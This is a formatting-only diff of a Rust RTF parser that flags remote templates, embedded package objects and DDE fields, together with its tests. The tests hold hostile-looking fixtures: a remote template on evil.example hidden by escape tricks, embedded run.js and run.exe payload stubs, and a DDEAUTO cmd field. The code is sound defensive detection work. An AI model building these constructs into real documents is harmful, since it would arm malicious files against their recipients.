@@ -16,7 +16,10 @@ const LONGEST_OBJECT: usize = 4 * 1024 * 1024;
 
 /// Reads a document.
 pub(super) fn read(reading: &mut Reading, bytes: &[u8], place: &Place) {
-    for at in groups(bytes, b"\\*\\template").chain(groups(bytes, b"\\template")).take(MOST_OBJECTS) {
+    for at in groups(bytes, b"\\*\\template")
+        .chain(groups(bytes, b"\\template"))
+        .take(MOST_OBJECTS)
+    {
         let target = plain_text(slice(bytes, at, 2_048));
         let target = target.trim();
         if target.contains("://") || target.starts_with("\\\\") {
@@ -26,7 +29,10 @@ pub(super) fn read(reading: &mut Reading, bytes: &[u8], place: &Place) {
     }
     let mut updates = false;
     for at in groups(bytes, b"\\objdata").take(MOST_OBJECTS) {
-        let data = hexadecimal(bytes.get(at..).unwrap_or_default(), LONGEST_OBJECT.min(reading.left()));
+        let data = hexadecimal(
+            bytes.get(at..).unwrap_or_default(),
+            LONGEST_OBJECT.min(reading.left()),
+        );
         reading.spend(data.len());
         updates |= holds(bytes, b"\\objupdate") || holds(bytes, b"\\objautlink");
         object(reading, &data, place);
@@ -44,7 +50,11 @@ pub(super) fn read(reading: &mut Reading, bytes: &[u8], place: &Place) {
 fn groups<'a>(bytes: &'a [u8], word: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
     memchr::memmem::find_iter(bytes, word)
         .map(|at| at + word.len())
-        .filter(|at| bytes.get(*at).is_none_or(|next| !next.is_ascii_alphabetic()))
+        .filter(|at| {
+            bytes
+                .get(*at)
+                .is_none_or(|next| !next.is_ascii_alphabetic())
+        })
 }
 
 /// The text up to the end of its group, without control words and the groups around its pieces.
@@ -70,10 +80,14 @@ fn plain_text(bytes: &[u8]) -> String {
                 }
                 _ => {
                     let word = bytes.get(at..).unwrap_or_default();
-                    let length = word.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'-').count();
+                    let length = word
+                        .iter()
+                        .take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'-')
+                        .count();
                     // `\u104?`: a letter by its number, and another for those who cannot read it.
                     let unicode = slice(word, 0, length).strip_prefix(b"u");
-                    let number = unicode.and_then(|digits| std::str::from_utf8(digits).ok()?.parse::<u32>().ok());
+                    let number = unicode
+                        .and_then(|digits| std::str::from_utf8(digits).ok()?.parse::<u32>().ok());
                     at += length;
                     match number.and_then(char::from_u32) {
                         Some(c) => {
@@ -103,9 +117,16 @@ fn hexadecimal(bytes: &[u8], limit: usize) -> Vec<u8> {
             b'}' => depth -= 1,
             b'\\' => {
                 let word = bytes.get(at..).unwrap_or_default();
-                let length = word.iter().take_while(|byte| byte.is_ascii_alphanumeric()).count().max(1);
+                let length = word
+                    .iter()
+                    .take_while(|byte| byte.is_ascii_alphanumeric())
+                    .count()
+                    .max(1);
                 if let Some(count) = slice(word, 0, length).strip_prefix(b"bin") {
-                    let count = std::str::from_utf8(count).ok().and_then(|count| count.parse().ok()).unwrap_or(0);
+                    let count = std::str::from_utf8(count)
+                        .ok()
+                        .and_then(|count| count.parse().ok())
+                        .unwrap_or(0);
                     out.extend_from_slice(slice(bytes, at + length + 1, count));
                     at = at.saturating_add(count + 1);
                 }
@@ -146,7 +167,9 @@ fn object(reading: &mut Reading, data: &[u8], place: &Place) {
     } else if class == "package" {
         let mut at = 12usize.saturating_add(class_length);
         for _ in 0..2 {
-            at = at.saturating_add(4).saturating_add(place_at(data, at).unwrap_or_default());
+            at = at
+                .saturating_add(4)
+                .saturating_add(place_at(data, at).unwrap_or_default());
         }
         // The length of the data stands before it, where a stream has its own.
         let stream = data.get(at..).unwrap_or_default();
@@ -170,43 +193,81 @@ mod tests {
     }
 
     fn hex(bytes: &[u8]) -> String {
-        bytes.iter().map(|byte| format!("{byte:02x}\r\n{{\\x}}")).collect()
+        bytes
+            .iter()
+            .map(|byte| format!("{byte:02x}\r\n{{\\x}}"))
+            .collect()
     }
 
     #[test]
     fn a_template_on_the_network_is_noticed_however_it_is_written() {
-        for target in ["https://evil.example/t.dotm", "\\'68ttps://evil.example/t.dotm", "\\u104?ttps://evil.example/t.dotm"] {
+        for target in [
+            "https://evil.example/t.dotm",
+            "\\'68ttps://evil.example/t.dotm",
+            "\\u104?ttps://evil.example/t.dotm",
+        ] {
             let contents = document(&format!("{{\\*\\template {target}}}"));
             assert_eq!(contents.features, [Feature::RemoteTemplate], "{target}");
             assert_eq!(contents.links, ["https://evil.example/t.dotm"]);
         }
-        assert_eq!(document("{\\*\\template C:\\\\Templates\\\\a.dot}").features, []);
+        assert_eq!(
+            document("{\\*\\template C:\\\\Templates\\\\a.dot}").features,
+            []
+        );
     }
 
     #[test]
     fn packed_files_are_found_between_hidden_digits() {
-        let object = [b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0".as_slice(), &ole10_native("a", "C:\\run.js", b"x")].concat();
-        let contents = document(&format!("{{\\object\\objemb{{\\*\\objdata {}}}}}", hex(&object)));
+        let object = [
+            b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0".as_slice(),
+            &ole10_native("a", "C:\\run.js", b"x"),
+        ]
+        .concat();
+        let contents = document(&format!(
+            "{{\\object\\objemb{{\\*\\objdata {}}}}}",
+            hex(&object)
+        ));
         assert_eq!(names(&contents), ["run.js"]);
         assert_eq!(contents.features, [Feature::EmbeddedFile]);
-        let inner = compound_file(&[("\u{1}Ole10Native", &ole10_native("a", "C:\\run.exe", b"MZ\x90\0"))]);
-        let object = [b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0\0\0\0\0".as_slice(), &inner].concat();
-        let contents = document(&format!("{{\\object\\objemb{{\\*\\objdata {}}}}}", hex(&object)));
+        let inner = compound_file(&[(
+            "\u{1}Ole10Native",
+            &ole10_native("a", "C:\\run.exe", b"MZ\x90\0"),
+        )]);
+        let object = [
+            b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0\0\0\0\0".as_slice(),
+            &inner,
+        ]
+        .concat();
+        let contents = document(&format!(
+            "{{\\object\\objemb{{\\*\\objdata {}}}}}",
+            hex(&object)
+        ));
         assert_eq!(names(&contents), ["run.exe"]);
     }
 
     #[test]
     fn fields_and_links_are_read() {
-        let contents = document("{\\field{\\*\\fldinst{ HYPERLINK \"https://evil.example/a\" }}{\\fldrslt x}}");
-        assert_eq!((contents.links, contents.features), (vec!["https://evil.example/a".to_owned()], vec![]));
-        assert_eq!(document("{\\field{\\*\\fldinst DDEAUTO cmd \"/k\"}}").features, [Feature::Dde]);
+        let contents = document(
+            "{\\field{\\*\\fldinst{ HYPERLINK \"https://evil.example/a\" }}{\\fldrslt x}}",
+        );
+        assert_eq!(
+            (contents.links, contents.features),
+            (vec!["https://evil.example/a".to_owned()], vec![])
+        );
+        assert_eq!(
+            document("{\\field{\\*\\fldinst DDEAUTO cmd \"/k\"}}").features,
+            [Feature::Dde]
+        );
     }
 
     #[test]
     fn text_is_no_feature() {
-        assert_eq!(document("Dear Julia,\\par see objdata and template."), PartContents {
-            kind: Some(banner_core::readings::Kind::Document),
-            ..PartContents::default()
-        });
+        assert_eq!(
+            document("Dear Julia,\\par see objdata and template."),
+            PartContents {
+                kind: Some(banner_core::readings::Kind::Document),
+                ..PartContents::default()
+            }
+        );
     }
 }
